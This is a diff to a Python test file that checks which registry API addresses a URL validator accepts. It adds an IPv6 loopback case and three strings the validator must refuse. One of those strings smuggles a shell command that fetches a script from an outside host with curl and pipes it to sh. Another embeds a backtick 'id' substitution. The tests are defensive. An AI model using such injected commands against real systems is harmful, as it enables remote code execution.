@@ -94,6 +94,7 @@ def test_a_comma_list_is_read_without_its_empty_parts() -> None:
     [
         ("https://registry.example/api", "https://registry.example/api"),
         ("http://host:8090/mirror/api/", "http://host:8090/mirror/api"),
+        ("http://[::1]:8090/~lab/api", "http://[::1]:8090/~lab/api"),
         ("", None),
         ("  ", None),
     ],
@@ -110,6 +111,9 @@ def test_a_public_address_ends_in_api(text: str, url: str | None) -> None:
         "https:///api",
         "https://a b/api",
         "https://h/api?x",
+        "https://h/api;curl${IFS}other.example|sh;/api",
+        "https://h/`id`/api",
+        "https://h/a&b/api",
     ],
 )
 def test_another_address_is_refused(text: str) -> None:
